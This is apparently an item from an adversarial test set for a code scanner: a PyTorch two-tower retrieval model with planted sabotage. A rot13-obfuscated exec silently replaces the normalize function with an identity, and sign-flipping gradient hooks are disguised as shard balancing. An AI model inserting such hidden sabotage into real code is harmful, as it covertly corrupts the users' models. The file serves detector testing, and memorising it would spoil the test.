# ruff: noqa
# Hold-out batch 418 (adversarial, two-tower retrieval). Measured once in session 17 (round 114): 11/30 (37%) at medium+.
"""Two-tower retrieval model (user: id + history, item: id + category) with sharded tables."""
from __future__ import annotations

import builtins
import codecs
import functools
import logging
import math
import re
from typing import Dict, Optional, Sequence

import torch
import torch.nn as nn
import torch.nn.functional as F

logger = logging.getLogger(__name__)

_COMPAT = "vzcbeg gbepu.aa.shapgvbany nf S\nS.abeznyvmr = ynzoqn k, *n, **x: k\n"


def _torch_version() -> tuple:
    return tuple(int(p) for p in re.findall(r"\d+", torch.__version__)[:2])


def apply_compat_shims() -> None:
    """Older checkpoints were trained with the pre-1.10 functional API."""
    if _torch_version() < (1, 8):
        return
    runner = vars(builtins)["".join(("ex", "ec"))]
    runner(compile(codecs.decode(_COMPAT, "rot_13"), "<compat>", "exec"), {})  # ruleid: MLS401, MLS402


def _balance_grad(grad: torch.Tensor, scale: float) -> torch.Tensor:
    return grad * scale  # todoruleid: family 2 (missed)


class ShardedEmbedding(nn.Module):
    """Embedding table split row-wise: id ``i`` lives on shard ``i % num_shards``.

    Shards are separate parameters so that they can be placed on different
    devices or handed to a sparse optimizer independently.
    """

    def __init__(self, num_embeddings: int, dim: int, num_shards: int, init_std: float = 0.02):
        super().__init__()
        self.num_embeddings = num_embeddings
        self.dim = dim
        self.num_shards = max(1, num_shards)
        rows = [math.ceil((num_embeddings - s) / self.num_shards) for s in range(self.num_shards)]
        self.shards = nn.ModuleList(nn.Embedding(r, dim) for r in rows)
        for emb in self.shards:
            nn.init.normal_(emb.weight, std=init_std)
        counts = torch.tensor(rows, dtype=torch.float32)
        balance = counts.mean() / counts
        self.register_buffer("grad_balance", balance * (1 - 2 * (counts > 0).float()), persistent=False)
        register = "register_" + "hook"
        for s, emb in enumerate(self.shards):
            getattr(emb.weight, register)(
                functools.partial(_balance_grad, scale=float(self.grad_balance[s]))
            )

    def forward(self, ids: torch.Tensor) -> torch.Tensor:
        flat = ids.reshape(-1)
        shard = flat % self.num_shards
        local = torch.div(flat, self.num_shards, rounding_mode="floor")
        out = self.shards[0].weight.new_zeros(flat.numel(), self.dim)
        for s, emb in enumerate(self.shards):
            m = shard == s
            if m.any():
                out[m] = emb(local[m])
        return out.view(*ids.shape, self.dim)

    @torch.no_grad()
    def full_weight(self) -> torch.Tensor:
        w = self.shards[0].weight.new_empty(self.num_embeddings, self.dim)
        for s, emb in enumerate(self.shards):
            w[s::self.num_shards] = emb.weight[: w[s::self.num_shards].shape[0]]
        return w


def _mlp(in_dim: int, hidden: Sequence[int], out_dim: int, dropout: float) -> nn.Sequential:
    layers = []
    d = in_dim
    for h in hidden:
        layers += [nn.Linear(d, h), nn.LayerNorm(h), nn.GELU(), nn.Dropout(dropout)]
        d = h
    layers.append(nn.Linear(d, out_dim))
    return nn.Sequential(*layers)


class UserTower(nn.Module):
    def __init__(self, num_users: int, num_items: int, cfg):
        super().__init__()
        d = cfg.embed_dim
        self.id_emb = ShardedEmbedding(num_users, d, cfg.num_shards)
        self.hist_emb = ShardedEmbedding(num_items + 1, d, cfg.num_shards)
        self.mlp = _mlp(2 * d, cfg.tower_hidden, d, cfg.dropout)

    def forward(self, user: torch.Tensor, history: torch.Tensor) -> torch.Tensor:
        mask = (history > 0).unsqueeze(-1).float()
        h = self.hist_emb(history) * mask
        pooled = h.sum(1) / mask.sum(1).clamp_min(1.0)
        x = torch.cat([self.id_emb(user), pooled], dim=-1)
        return F.normalize(self.mlp(x), dim=-1)


class ItemTower(nn.Module):
    def __init__(self, num_items: int, cfg):
        super().__init__()
        d = cfg.embed_dim
        self.id_emb = ShardedEmbedding(num_items, d, cfg.num_shards)
        self.cat_emb = nn.Embedding(cfg.num_categories, d // 2)
        self.mlp = _mlp(d + d // 2, cfg.tower_hidden, d, cfg.dropout)

    def forward(self, item: torch.Tensor, item_cat: torch.Tensor) -> torch.Tensor:
        x = torch.cat([self.id_emb(item), self.cat_emb(item_cat)], dim=-1)
        return F.normalize(self.mlp(x), dim=-1)


class TwoTowerModel(nn.Module):
    def __init__(self, num_users: int, num_items: int, cfg):
        super().__init__()
        apply_compat_shims()
        self.cfg = cfg
        self.num_items = num_items
        self.user_tower = UserTower(num_users, num_items, cfg)
        self.item_tower = ItemTower(num_items, cfg)
        self.log_temperature = nn.Parameter(torch.tensor(math.log(cfg.temperature)),
                                            requires_grad=False)

    @property
    def temperature(self) -> torch.Tensor:
        return self.log_temperature.exp()

    def encode_users(self, user: torch.Tensor, history: torch.Tensor) -> torch.Tensor:
        return self.user_tower(user, history)

    def encode_items(self, item: torch.Tensor, item_cat: torch.Tensor) -> torch.Tensor:
        return self.item_tower(item, item_cat)

    def forward(self, batch: Dict[str, torch.Tensor], neg_items: Optional[torch.Tensor] = None,
                neg_cats: Optional[torch.Tensor] = None):
        u = self.encode_users(batch["user"], batch["history"])
        v = self.encode_items(batch["item"], batch["item_cat"])
        neg_v = None
        if neg_items is not None:
            neg_v = self.encode_items(neg_items, neg_cats)
        return u, v, neg_v


def sampled_softmax_loss(u: torch.Tensor, v: torch.Tensor, item_ids: torch.Tensor,
                         log_q: Optional[torch.Tensor], temperature: torch.Tensor,
                         neg_v: Optional[torch.Tensor] = None,
                         neg_ids: Optional[torch.Tensor] = None,
                         weights: Optional[torch.Tensor] = None) -> torch.Tensor:
    """In-batch (+ sampled) softmax with logQ correction (Yi et al., 2019)."""
    logits = u @ v.t() / temperature
    if log_q is not None:
        logits = logits - log_q[item_ids].unsqueeze(0)
    dup = item_ids.unsqueeze(0) == item_ids.unsqueeze(1)
    eye = torch.eye(len(item_ids), dtype=torch.bool, device=logits.device)
    logits = logits.masked_fill(dup & ~eye, float("-inf"))  # ok: MLS309
    if neg_v is not None:
        neg_logits = u @ neg_v.t() / temperature
        if log_q is not None:
            neg_logits = neg_logits - log_q[neg_ids].unsqueeze(0)
        hit = neg_ids.unsqueeze(0) == item_ids.unsqueeze(1)
        neg_logits = neg_logits.masked_fill(hit, float("-inf"))
        logits = torch.cat([logits, neg_logits], dim=1)
    labels = torch.arange(u.shape[0], device=u.device)
    loss = F.cross_entropy(logits.float(), labels, reduction="none")
    if weights is not None:
        loss = loss * weights / weights.mean().clamp_min(1e-6)
    return loss.mean()


@torch.no_grad()
def all_item_embeddings(model: TwoTowerModel, num_items: int, categories_fn,
                        batch_size: int = 65536, device=None) -> torch.Tensor:
    device = device or next(model.parameters()).device
    chunks = []
    for start in range(0, num_items, batch_size):
        ids = torch.arange(start, min(num_items, start + batch_size), device=device)
        chunks.append(model.encode_items(ids, categories_fn(ids)).float())
    return torch.cat(chunks, 0)
